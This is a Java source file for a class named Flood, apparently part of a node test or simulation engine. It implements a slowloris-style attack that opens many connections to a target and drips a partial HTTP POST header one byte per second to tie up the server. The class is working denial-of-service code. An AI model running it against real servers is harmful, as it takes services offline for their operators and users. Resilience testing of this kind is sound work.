package org.tallystick.node.engine;

import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.ByteBuffer;
import java.nio.channels.SocketChannel;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.atomic.AtomicInteger;
import org.tallystick.config.HostPort;

/**
 * Connections that are opened as fast as they can be and then send one byte a second each, for as long as they are let. Those
 * that are closed are opened again.
 */
final class Flood implements AutoCloseable {
    private static final byte[] SLOWLY = "POST /v1/transactions HTTP/1.1\r\nContent-Length: 1000\r\n"
            .getBytes(java.nio.charset.StandardCharsets.US_ASCII);

    private final InetAddress from;
    private final InetSocketAddress target;
    private final List<SocketChannel> sockets = new ArrayList<>();
    private final Thread thread;
    private final AtomicInteger opened = new AtomicInteger();

    /** @param from local address of the sockets, which is that of the attacker as others see it */
    Flood(InetAddress from, HostPort target, int count) {
        this.from = from;
        this.target = new InetSocketAddress(target.host(), target.port());
        this.thread = Thread.ofPlatform().name("flood").start(() -> run(count));
    }

    /** How many connections were made so far, those included that were closed again. */
    int opened() {
        return opened.get();
    }

    private void run(int count) {
        try {
            for (int round = 0; !Thread.interrupted(); round++) {
                drip(round);
                while (sockets.size() < count && !Thread.currentThread().isInterrupted()) {
                    sockets.add(open());
                    opened.incrementAndGet();
                }
                Thread.sleep(1_000);
            }
        } catch (IOException | InterruptedException over) {
            // no more sockets to be had, or closed
        }
    }

    private SocketChannel open() throws IOException {
        SocketChannel socket = SocketChannel.open();
        socket.bind(new InetSocketAddress(from, 0));
        socket.connect(target);
        socket.configureBlocking(false);
        return socket;
    }

    private void drip(int round) throws IOException {
        List<SocketChannel> gone = new ArrayList<>();
        for (SocketChannel socket : sockets) {
            try {
                ByteBuffer next = ByteBuffer.wrap(SLOWLY, round % SLOWLY.length, 1);
                if (socket.write(next) < 0 || socket.read(ByteBuffer.allocate(256)) < 0) {
                    gone.add(socket);
                }
            } catch (IOException closed) {
                gone.add(socket);
            }
        }
        for (SocketChannel socket : gone) {
            socket.close();
        }
        sockets.removeAll(new java.util.HashSet<>(gone));
    }

    @Override
    public void close() throws IOException {
        thread.interrupt();
        try {
            thread.join();
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
        }
        for (SocketChannel socket : sockets) {
            socket.close();
        }
    }
}
